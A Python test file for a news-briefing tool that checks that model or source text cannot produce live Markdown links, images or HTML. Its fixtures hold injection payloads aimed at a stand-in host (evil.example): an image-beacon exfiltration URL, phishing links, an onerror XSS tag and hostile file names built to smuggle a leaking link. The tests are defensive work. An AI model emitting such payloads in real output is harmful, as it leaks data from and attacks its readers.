"""Briefing files are Markdown: nothing a source or a model wrote may become a
live link, image or HTML there; only our own structure survives."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

from ragnews import Newsroom
from ragnews.brief.markdown import md, md_block
from tests.conftest import SEEDS

LIVE = re.compile(r"(?<!\\)!?(?<!\\)\[[^\]]*(?<!\\)\]\((?!\))|(?<!\\)<img|(?<!\\)<script|^\[\d+\]:", re.I | re.M)

MODEL_TEXT = """Summary
North Korea sent troops [1]. ![pixel](http://evil.example/exfil.png) and [phish](http://evil.example) <img src=x onerror=alert(1)>
[1]: http://evil.example/steal
- a bullet with *emphasis* and `code` [2]
1. a numbered point [unsupported]"""


def test_model_text_keeps_markers_and_bullets_but_nothing_live() -> None:
    out = md_block(MODEL_TEXT)
    assert not LIVE.search(out), out
    assert "[1]" in out and "[2]" in out and "[unsupported]" in out
    assert out.splitlines()[3].startswith("- a bullet") and out.splitlines()[4].startswith("- a numbered point")
    assert "\\*emphasis\\*" in out and "`code`" in out  # a code span is inert: it reads as written


def test_article_text_is_inert() -> None:
    assert not LIVE.search(md("see ![x](http://evil.example/a.png) or [here](http://evil.example) <img src=y>"))


def test_a_hostile_file_name_cannot_break_out_of_the_sources_list(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(SEEDS / "000_7dc4cde0666e8d48.txt", corpus / "a` ![x](https:evil.example?leak=1) `.txt")
    shutil.copy(SEEDS / "001_e466ae1f60d4263a.txt", corpus / "[link](http:evil.example).txt")
    b = Newsroom(db=tmp_path / "db").brief([corpus], engine="extractive")
    sources = b.markdown.split("## Sources", 1)[1]
    assert not LIVE.search(sources), sources
